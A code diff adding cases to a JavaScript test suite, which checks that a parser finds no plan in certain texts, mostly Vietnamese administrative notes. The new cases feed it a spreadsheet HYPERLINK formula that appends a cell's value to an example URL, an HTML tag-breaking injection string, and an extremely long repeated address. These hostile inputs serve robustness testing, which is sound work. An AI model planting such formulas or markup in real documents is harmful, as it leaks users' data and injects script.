@@ -41,6 +41,11 @@ describe('a text in which nothing of a plan was found', () => {
       'I. NỘI DUNG\n1. Buôn Kđoh, buôn Krông Ana chuẩn bị lễ mừng lúa mới theo phân công.\n'.repeat(20),
     ],
     [
+      'of formulas and tags',
+      `Phần 1: =HYPERLINK("http://vi.du/?x="&A1,"click")\n1. Việc a (</script><img src=x>)\n`.repeat(200),
+    ],
+    ['of an address over and over', `Điều 1. ${'http://h'.repeat(20_000)}\n`],
+    [
       'long, without a header',
       'I. NỘI DUNG\n1. Công an xã bảo đảm an ninh, trật tự trong suốt thời gian diễn ra lễ hội.\n'.repeat(60),
     ],
